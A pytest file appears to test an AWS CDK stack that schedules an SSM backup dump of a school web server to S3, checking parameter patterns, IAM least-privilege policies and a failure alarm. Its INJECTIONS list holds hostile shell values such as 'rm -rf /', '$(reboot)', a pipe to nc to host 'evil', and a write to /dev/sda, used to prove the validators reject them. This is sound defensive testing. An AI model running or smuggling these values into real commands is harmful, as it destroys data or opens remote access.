"""Dump: SSM document with the embedded script, schedule, server policy, failure rule."""

from __future__ import annotations

import ast
import json
import re
from typing import Any

import pytest
from aws_cdk.assertions import Match, Template

import infra.dump
from infra.dump import (
    DOCUMENT_VERSION,
    HELPERS,
    MANIFEST_PREFIX_PATTERN,
    PATTERNS,
    SCRIPT,
    VARIABLES,
    check_default,
    helper_lines,
    run_command,
    script_lines,
    time_limit_seconds,
)
from tests.infra.conftest import assert_has_resource, resources_of, synth

ROLE_NAME = "school-web-server-role"
SECRET_ARN = "arn:aws:secretsmanager:eu-central-2:123456789012:secret:schoolbackup/dump-reader-AbCdEf"
DETAIL_TYPE = "EC2 Command Invocation Status-change Notification"


def only(template: Template, rtype: str, props: dict[str, Any] | None = None) -> tuple[str, dict[str, Any]]:
    found = template.find_resources(rtype, {"Properties": props} if props else None)
    assert len(found) == 1, found
    logical_id, resource = next(iter(found.items()))
    return logical_id, dict(resource)


def dump_document(template: Template) -> tuple[str, dict[str, Any]]:
    """The dump's document (the drill's check document is the other one)."""
    found = {
        k: dict(v)
        for k, v in template.find_resources("AWS::SSM::Document").items()
        if "-Dump-" in v["Properties"]["Name"]
    }
    assert len(found) == 1, found
    return next(iter(found.items()))


def document(template: Template) -> dict[str, Any]:
    _, doc = dump_document(template)
    content: dict[str, Any] = doc["Properties"]["Content"]
    return content


def document_name(template: Template) -> str:
    _, doc = dump_document(template)
    name: str = doc["Properties"]["Name"]
    return name


def dump_schedule(template: Template) -> dict[str, Any]:
    _, schedule = only(template, "AWS::Scheduler::Schedule", {"Name": Match.string_like_regexp("-dump$")})
    return schedule


def server_policy(template: Template) -> dict[str, Any]:
    found = [
        p
        for p in resources_of(template, "AWS::IAM::Policy").values()
        if p["Properties"].get("Roles") == [ROLE_NAME]
    ]
    assert len(found) == 1, found
    return found[0]


def as_list(value: Any) -> list[Any]:
    return value if isinstance(value, list) else [value]


def joined(value: Any) -> str:
    """A resource as text: Fn::Join parts concatenated, GetAtt/Ref shown as <Id.Attr>/<Ref>."""
    if isinstance(value, str):
        return value
    if "Fn::Join" in value:
        return "".join(joined(v) for v in value["Fn::Join"][1])
    if "Fn::GetAtt" in value:
        return "<{}.{}>".format(*value["Fn::GetAtt"])
    if "Ref" in value:
        return f"<{value['Ref']}>"
    raise AssertionError(value)


def test_document_is_a_schema_2_2_command_with_the_script_and_its_s3_client_embedded(
    template: Template,
) -> None:
    _, doc = dump_document(template)
    props = doc["Properties"]
    assert props["DocumentType"] == "Command"
    assert props["DocumentFormat"] == "JSON"
    assert re.fullmatch(r"SchoolBackup-Dump-[0-9a-f]{10}", props["Name"]), props["Name"]
    assert props["UpdateMethod"] == "Replace"
    content = props["Content"]
    assert content["schemaVersion"] == "2.2"
    [step] = content["mainSteps"]
    assert step["action"] == "aws:runShellScript"
    assert step["inputs"]["timeoutSeconds"] == 120 * 60
    lines = step["inputs"]["runCommand"]
    assert lines[0] == "#!/usr/bin/env bash"  # shebang stays first: the agent executes the file
    body = "\n".join(lines)
    assert "set -Eeuo pipefail" in body
    assert "flock -n 9" in body
    # Every script line is there, in order, after the exports and the S3 client.
    script = script_lines()
    assert lines[-len(script) + 1 :] == script[1:]
    assert set(HELPERS) == {"SB_S3PUT_PY", "SB_DBSECRET_PY"}
    for var, text in helper_lines().items():
        start = lines.index(f"{var}=$(cat <<'{var}_END'")
        assert lines[start + 1 : start + 1 + len(text)] == text
        assert lines[start + 1 + len(text)] == f"{var}_END"
    # the script stops itself 5 minutes before the document's timeout, so its cleanup always runs
    assert f"export SB_TIME_LIMIT_SECONDS='{120 * 60 - 300}'" in lines
    assert time_limit_seconds(300) == 270


def test_a_changed_script_is_a_new_document_that_the_schedule_sends_at_its_latest_version(
    template: Template, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = document_name(template)
    assert document_name(synth()) == before, "the same content gives the same name (no churn)"
    monkeypatch.setattr(infra.dump, "script_lines", lambda: [*script_lines(), "# changed"])
    changed = synth()
    after = document_name(changed)
    assert after != before and after.startswith("SchoolBackup-Dump-")
    for t, name in ((template, before), (changed, after)):
        payload = json.loads(dump_schedule(t)["Properties"]["Target"]["Input"])
        assert (
            (payload["DocumentName"], payload["DocumentVersion"])
            == (name, DOCUMENT_VERSION)
            == (name, "$LATEST")
        )


def test_exports_are_single_quoted_document_parameters(template: Template) -> None:
    content = document(template)
    lines = content["mainSteps"][0]["inputs"]["runCommand"]
    exports = [line for line in lines if line.startswith("export SB_")]
    # every parameter, then the one constant the stack computes (the script's own time limit)
    assert exports == [
        *(f"export {var}='{{{{ {param} }}}}'" for param, var in VARIABLES.items()),
        f"export SB_TIME_LIMIT_SECONDS='{120 * 60 - 300}'",
    ]
    assert set(content["parameters"]) == set(VARIABLES)
    # The exports come before the first line that reads a setting.
    first_read = next(i for i, line in enumerate(lines) if line.startswith('SB_BUCKET="${SB_BUCKET'))
    assert all(lines.index(e) < first_read for e in exports)
    assert not any("{{" in line for line in script_lines())


def test_every_parameter_has_an_allowed_pattern_and_config_defaults(template: Template) -> None:
    params = document(template)["parameters"]
    for name, spec in params.items():
        assert spec["type"] == "String"
        assert spec["allowedPattern"] == PATTERNS[name], name
        assert spec["allowedPattern"].startswith("^") and spec["allowedPattern"].endswith("$"), name
    assert params["Paths"]["default"] == "/etc /var/www"
    assert params["DbEngine"]["default"] == "mysql"
    assert params["DbHost"]["default"] == "school-db.abcdefghijkl.eu-central-2.rds.amazonaws.com"
    assert params["DbPort"]["default"] == "3306"
    assert params["DbName"]["default"] == "school"
    assert params["DbSecretArn"]["default"] == SECRET_ARN
    assert params["Compression"]["default"] == "gzip"
    assert params["DbConsistency"]["default"] == "single-transaction"
    assert params["MaxPartMiB"]["default"] == "64"
    assert params["Prefix"]["default"] == "dumps"
    assert params["ScheduledTime"]["default"] == ""
    assert joined(params["Bucket"]["default"]).startswith("<StorageBackupBucket")
    assert joined(params["KmsKeyArn"]["default"]).startswith("<StorageBackupKey")
    assert params["Region"]["default"] == {"Ref": "AWS::Region"}


GOOD = {
    "Bucket": ["schoolbackup-123456789012-eu-central-2"],
    "Prefix": ["dumps", "dumps/test"],
    "Paths": ["/etc /var/www", "/", "/srv/school-site_2", "/home/a.b@c+d=e:f"],
    "DbEngine": ["mysql", "postgres", "none"],
    "DbHost": ["", "school-db.abc.eu-central-2.rds.amazonaws.com", "10.0.0.5", "::1"],
    "DbPort": ["", "3306", "5432"],
    "DbName": ["", "school", "wp_site-1"],
    "DbSecretArn": ["", SECRET_ARN],
    "Compression": ["gzip", "zstd"],
    "DbConsistency": ["single-transaction", "lock-tables"],
    "MaxPartMiB": ["5", "64", "5120"],
    "KmsKeyArn": ["arn:aws:kms:eu-central-2:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab"],
    "ScheduledTime": ["", "2026-11-27T01:00:00Z", "2026-11-27T01:00Z", "2026-11-27T01:00:00.123Z"],
    "Region": ["", "eu-central-2", "us-gov-west-1"],
}
INJECTIONS = [
    "/var/www; rm -rf /",
    "$(reboot)",
    "`reboot`",
    "/etc' ; reboot ; '",
    "/etc\nreboot",
    "/etc && reboot",
    "/etc | nc evil 1",
    "/etc > /dev/sda",
    "${IFS}reboot",
    "/etc\\",
    '/etc"',
]


@pytest.mark.parametrize("param", sorted(PATTERNS))
def test_allowed_patterns_accept_real_values(param: str) -> None:
    for value in GOOD[param]:
        assert re.match(PATTERNS[param], value), (param, value)


@pytest.mark.parametrize("param", sorted(PATTERNS))
@pytest.mark.parametrize("value", INJECTIONS)
def test_allowed_patterns_reject_shell_injection(param: str, value: str) -> None:
    # re.fullmatch as well: a multi-line value must not slip through "$" before a trailing newline.
    assert not re.match(PATTERNS[param], value), (param, value)
    assert not re.fullmatch(PATTERNS[param].strip("^$"), value), (param, value)


def test_other_bad_values_are_rejected() -> None:
    bad = {
        "Paths": ["etc", "/etc  /var", "/var/www /tmp/a b", "/a*", "~/x"],
        "DbEngine": ["MySQL", "sqlite", ""],
        "Prefix": ["other", "dumps/", "/dumps", "dumps/../x y"],
        "DbPort": ["3306a", "123456"],
        "Compression": ["xz", ""],
        "DbConsistency": ["", "snapshot", "lock-tables; reboot"],
        "MaxPartMiB": ["", "64M", "-5", "12345"],
        "ScheduledTime": ["2026-11-27 01:00:00", "now", "2026-11-27T01:00:00+01:00"],
        "Bucket": ["Bad_Bucket", "a"],
    }
    for param, values in bad.items():
        for value in values:
            assert not re.match(PATTERNS[param], value), (param, value)


def test_a_default_that_breaks_its_pattern_fails_synth() -> None:
    with pytest.raises(ValueError, match="Paths"):
        check_default("Paths", "/srv/(x)")
    with pytest.raises(ValueError, match=r"dump document parameter DbName"):
        synth({"dump": {"db_name": "pay$roll"}})


def test_run_command_refuses_a_script_without_shebang_or_with_ssm_braces() -> None:
    with pytest.raises(ValueError, match="shebang"):
        run_command(["echo hi"], {})
    with pytest.raises(ValueError, match="must not contain"):
        run_command(["#!/bin/bash", "echo {{ x }}"], {})
    with pytest.raises(ValueError, match=r"s3put.py must not contain '\{\{'"):
        run_command(["#!/bin/bash"], {"SB_S3PUT_PY": ["x = '{{ y }}'"]})
    with pytest.raises(ValueError, match="SB_DBSECRET_PY_END"):
        run_command(["#!/bin/bash"], {"SB_DBSECRET_PY": ["print(1)", "SB_DBSECRET_PY_END"]})
    assert SCRIPT.name == "schoolbackup-dump.sh"


def _python_3_9_problem(source: str) -> str | None:
    """What Python 3.9's grammar refuses in ``source`` (None: nothing)."""
    try:
        ast.parse(source, feature_version=(3, 9))
    except SyntaxError as err:
        return f"line {err.lineno}: {err.msg}"
    return None


def test_the_helpers_run_on_amazon_linux_2023s_python_3_9() -> None:
    """Amazon Linux 2023's python3 is 3.9: the helpers the document embeds may use no newer syntax."""
    assert _python_3_9_problem("match x:\n    case 1:\n        pass\n") is not None  # the check can fail
    helpers = {var: "\n".join(text) for var, text in helper_lines().items()}
    assert set(helpers) == {"SB_S3PUT_PY", "SB_DBSECRET_PY"}
    assert {var: _python_3_9_problem(text) for var, text in helpers.items()} == dict.fromkeys(helpers)


def test_schedule_sends_the_document_to_tagged_servers(template: Template) -> None:
    schedule = dump_schedule(template)
    props = schedule["Properties"]
    assert props["ScheduleExpression"] == "cron(30 1 * * ? *)"
    assert props["ScheduleExpressionTimezone"] == "Europe/Zurich"
    target = props["Target"]
    assert target["Arn"] == {
        "Fn::Join": ["", ["arn:", {"Ref": "AWS::Partition"}, ":scheduler:::aws-sdk:ssm:sendCommand"]]
    }
    payload = json.loads(target["Input"])
    assert payload == {
        "DocumentName": document_name(template),
        "DocumentVersion": "$LATEST",
        "Targets": [{"Key": "tag:Backup", "Values": ["true"]}],
        "Parameters": {"ScheduledTime": ["<aws.scheduler.scheduled-time>"]},
        "TimeoutSeconds": 7200,
        "Comment": "schoolbackup daily dump",
        "CloudWatchOutputConfig": {
            "CloudWatchLogGroupName": "/schoolbackup/SchoolBackup/dump",
            "CloudWatchOutputEnabled": True,
        },
        "MaxConcurrency": "1",
        "MaxErrors": "0",
    }
    assert target["DeadLetterConfig"]["Arn"]["Fn::GetAtt"][0].startswith("SchedulesDeadLetterQueue")


def scheduler_statements(template: Template) -> list[dict[str, Any]]:
    role_id = dump_schedule(template)["Properties"]["Target"]["RoleArn"]["Fn::GetAtt"][0]
    statements: list[dict[str, Any]] = []
    for policy in resources_of(template, "AWS::IAM::Policy").values():
        if {"Ref": role_id} in policy["Properties"]["Roles"]:
            statements += policy["Properties"]["PolicyDocument"]["Statement"]
    return statements


def test_scheduler_role_may_send_only_this_document_to_tagged_instances(template: Template) -> None:
    by_sid = {s.get("Sid"): s for s in scheduler_statements(template)}
    assert by_sid["SendDumpDocument"]["Action"] == "ssm:SendCommand"
    assert joined(by_sid["SendDumpDocument"]["Resource"]) == (
        f"arn:<AWS::Partition>:ssm:<AWS::Region>:<AWS::AccountId>:document/{document_name(template)}"
    )
    tagged = by_sid["SendToTaggedInstances"]
    assert tagged["Action"] == "ssm:SendCommand"
    assert joined(tagged["Resource"]) == "arn:<AWS::Partition>:ec2:<AWS::Region>:<AWS::AccountId>:instance/*"
    assert tagged["Condition"] == {"StringEquals": {"ssm:resourceTag/Backup": "true"}}
    actions = {a for s in scheduler_statements(template) for a in as_list(s["Action"])}
    assert actions == {"ssm:SendCommand", "sqs:SendMessage", "kms:GenerateDataKey", "kms:Decrypt"}


def test_listed_instances_are_targeted_by_id() -> None:
    ids = ["i-0123456789abcdef0", "i-0fedcba9876543210"]
    t = synth({"selection": {"ec2_instance_ids": ids}, "schedules": {"dump": "cron(15 1 * * ? *)"}})
    schedule = dump_schedule(t)
    assert schedule["Properties"]["ScheduleExpression"] == "cron(15 1 * * ? *)"
    payload = json.loads(schedule["Properties"]["Target"]["Input"])
    assert payload["InstanceIds"] == ids
    assert "Targets" not in payload
    by_sid = {s.get("Sid"): s for s in scheduler_statements(t)}
    assert "SendToTaggedInstances" not in by_sid
    assert [joined(r) for r in by_sid["SendToListedInstances"]["Resource"]] == [
        f"arn:<AWS::Partition>:ec2:<AWS::Region>:<AWS::AccountId>:instance/{i}" for i in ids
    ]


def test_config_drives_document_and_timeout() -> None:
    t = synth(
        {
            "dump": {
                "engine": "postgres",
                "db_port": 5433,
                "compression": "zstd",
                "timeout_minutes": 45,
                "paths": ["/srv/site", "/etc/nginx"],
                "mysql_consistency": "lock-tables",
                "max_part_mib": 512,
            }
        }
    )
    content = document(t)
    assert content["mainSteps"][0]["inputs"]["timeoutSeconds"] == 45 * 60
    params = content["parameters"]
    assert (params["DbEngine"]["default"], params["DbPort"]["default"]) == ("postgres", "5433")
    assert params["Compression"]["default"] == "zstd"
    assert (params["DbConsistency"]["default"], params["MaxPartMiB"]["default"]) == ("lock-tables", "512")
    assert params["Paths"]["default"] == "/srv/site /etc/nginx"
    assert json.loads(dump_schedule(t)["Properties"]["Target"]["Input"])["TimeoutSeconds"] == 45 * 60


ALLOWED_SERVER_ACTIONS = {
    "s3:PutObject",
    "s3:AbortMultipartUpload",
    "s3:ListBucket",
    "kms:GenerateDataKey",
    "kms:Decrypt",
    "secretsmanager:GetSecretValue",
    "logs:CreateLogStream",
    "logs:PutLogEvents",
    "logs:DescribeLogStreams",
    "logs:DescribeLogGroups",
}
FORBIDDEN = re.compile(
    r"^(s3:(Delete|List|PutBucket|PutObjectRetention|PutObjectLegalHold|BypassGovernanceRetention|"
    r"PutLifecycle|PutObjectTagging|PutObjectAcl|\*)|.*\*$)"
)


def test_server_policy_allows_exactly_the_dump_actions(template: Template) -> None:
    statements = server_policy(template)["Properties"]["PolicyDocument"]["Statement"]
    assert all(s["Effect"] == "Allow" for s in statements)
    actions = {a for s in statements for a in as_list(s["Action"])}
    assert actions == ALLOWED_SERVER_ACTIONS
    assert not [a for a in actions if FORBIDDEN.match(a) and a != "s3:ListBucket"]
    by_sid = {s["Sid"]: s for s in statements}

    add = by_sid["AddDumpObjects"]
    assert sorted(add["Action"]) == ["s3:AbortMultipartUpload", "s3:PutObject"]
    assert re.fullmatch(r"<StorageBackupBucket[0-9A-F]{8}\.Arn>/dumps/\*", joined(add["Resource"]))
    assert "Condition" not in add  # write-once is the bucket policy's (DenyOverwritingDumps), for everybody
    # The only listing: whether a slot's manifest exists (its key as the prefix).
    find = by_sid["FindSlotManifest"]
    assert find["Action"] == "s3:ListBucket"
    assert re.fullmatch(r"<StorageBackupBucket[0-9A-F]{8}\.Arn>", joined(find["Resource"]))
    assert find["Condition"] == {"StringLike": {"s3:prefix": MANIFEST_PREFIX_PATTERN}}
    assert MANIFEST_PREFIX_PATTERN.endswith("/manifest.json") and MANIFEST_PREFIX_PATTERN.startswith(
        "dumps/i-"
    )
    s3_actions = {a for st in statements for a in as_list(st["Action"]) if a.startswith("s3:")}
    assert s3_actions == {"s3:PutObject", "s3:AbortMultipartUpload", "s3:ListBucket"}

    kms = by_sid["EncryptDumpObjects"]
    assert sorted(kms["Action"]) == ["kms:Decrypt", "kms:GenerateDataKey"]
    assert joined(kms["Resource"]).startswith("<StorageBackupKey")
    assert joined(kms["Condition"]["StringEquals"]["kms:ViaService"]) == "s3.<AWS::Region>.amazonaws.com"

    assert by_sid["ReadDbSecret"] == {
        "Sid": "ReadDbSecret",
        "Effect": "Allow",
        "Action": "secretsmanager:GetSecretValue",
        "Resource": SECRET_ARN,
    }
    logs = by_sid["WriteCommandOutput"]
    assert sorted(joined(r) for r in logs["Resource"]) == sorted(
        [
            f"<{_log_group_id(template)}.Arn>",
            f"<{_log_group_id(template)}.Arn>:log-stream:*",
        ]
    )
    assert by_sid["FindCommandOutputGroup"]["Action"] == "logs:DescribeLogGroups"
    assert joined(by_sid["FindCommandOutputGroup"]["Resource"]).endswith(":log-group:*")


def _log_group_id(template: Template) -> str:
    log_id, _ = only(template, "AWS::Logs::LogGroup", {"LogGroupName": "/schoolbackup/SchoolBackup/dump"})
    return log_id


def test_no_s3_resource_outside_dumps_and_no_wildcard_action(template: Template) -> None:
    text = json.dumps(server_policy(template))
    assert "s3:*" not in text and '"*"' not in text
    for statement in server_policy(template)["Properties"]["PolicyDocument"]["Statement"]:
        if any(a.startswith("s3:") for a in as_list(statement["Action"])):
            for resource in as_list(statement["Resource"]):
                assert joined(resource).endswith(("/dumps/*", ".Arn>")), resource


def test_log_group_has_retention(template: Template) -> None:
    assert_has_resource(
        template,
        "AWS::Logs::LogGroup",
        {"LogGroupName": "/schoolbackup/SchoolBackup/dump", "RetentionInDays": 90},
    )


def test_outputs_name_the_document_and_log_group(template: Template) -> None:
    values = {o["Value"] for o in template.to_json()["Outputs"].values() if isinstance(o["Value"], str)}
    assert {document_name(template), "/schoolbackup/SchoolBackup/dump"} <= values


def test_failed_dump_commands_go_to_the_alarm_topic(template: Template) -> None:
    _, rule = only(template, "AWS::Events::Rule", {"EventPattern": {"source": ["aws.ssm"]}})
    props = rule["Properties"]
    assert props["EventPattern"] == {
        "source": ["aws.ssm"],
        "detail-type": [DETAIL_TYPE],
        "detail": {"document-name": [document_name(template)], "status": ["Failed", "TimedOut", "Cancelled"]},
    }
    [target] = props["Targets"]
    assert target["Arn"]["Ref"].startswith("AlarmsTopic")
    transformer = target["InputTransformer"]
    assert transformer["InputPathsMap"] == {
        "detail-instance-id": "$.detail.instance-id",
        "detail-status": "$.detail.status",
        "detail-command-id": "$.detail.command-id",
    }
    message = transformer["InputTemplate"]
    for part in (
        "<detail-instance-id>",
        "<detail-status>",
        "<detail-command-id>",
        document_name(template),
        "/schoolbackup/SchoolBackup/dump",
        "last line of the log says which step failed",
    ):
        assert part in message, part
    # Every <placeholder> must be defined, or EventBridge rejects the target.
    assert set(re.findall(r"<([^<>]+)>", message)) <= set(transformer["InputPathsMap"])


def test_only_the_dump_rule_of_this_account_may_publish_to_the_encrypted_topic(template: Template) -> None:
    _, rule = only(template, "AWS::Events::Rule", {"EventPattern": {"source": ["aws.ssm"]}})
    assert rule["Properties"]["Name"] == "SchoolBackup-dump-failed"
    rule_arn = "arn:<AWS::Partition>:events:<AWS::Region>:<AWS::AccountId>:rule/SchoolBackup-dump-failed"
    _, policy = only(template, "AWS::SNS::TopicPolicy")
    key = next(iter(resources_of(template, "AWS::KMS::Key").values()))
    for statements in (
        policy["Properties"]["PolicyDocument"]["Statement"],
        key["Properties"]["KeyPolicy"]["Statement"],
    ):
        grants = [
            s
            for s in statements
            if s["Effect"] == "Allow" and "events.amazonaws.com" in json.dumps(s["Principal"])
        ]
        assert len(grants) == 1, grants
        [grant] = grants
        assert grant["Condition"]["StringEquals"] == {"aws:SourceAccount": {"Ref": "AWS::AccountId"}}
        assert joined(grant["Condition"]["ArnLike"]["aws:SourceArn"]) == rule_arn
    # every service grant on the topic and the key is bound to this account
    for statements in (
        policy["Properties"]["PolicyDocument"]["Statement"],
        key["Properties"]["KeyPolicy"]["Statement"],
    ):
        for s in statements:
            if s["Effect"] == "Allow" and "Service" in s["Principal"]:
                assert "aws:SourceAccount" in s["Condition"]["StringEquals"], s
                assert "aws:SourceArn" in s["Condition"]["ArnLike"], s


def test_disabled_dump_creates_nothing() -> None:
    t = synth({"dump": {"enabled": False}})
    names = [d["Properties"]["Name"] for d in resources_of(t, "AWS::SSM::Document").values()]
    assert [n for n in names if "-Dump-" in n] == []  # the drill's check document stays
    assert not t.find_resources(
        "AWS::Scheduler::Schedule", {"Properties": {"Name": Match.string_like_regexp("-dump$")}}
    )
    assert not [
        p for p in resources_of(t, "AWS::IAM::Policy").values() if p["Properties"].get("Roles") == [ROLE_NAME]
    ]
    assert not t.find_resources(
        "AWS::Events::Rule", {"Properties": {"EventPattern": {"source": ["aws.ssm"]}}}
    )
    assert not t.find_resources(
        "AWS::Logs::LogGroup", {"Properties": {"LogGroupName": "/schoolbackup/SchoolBackup/dump"}}
    )
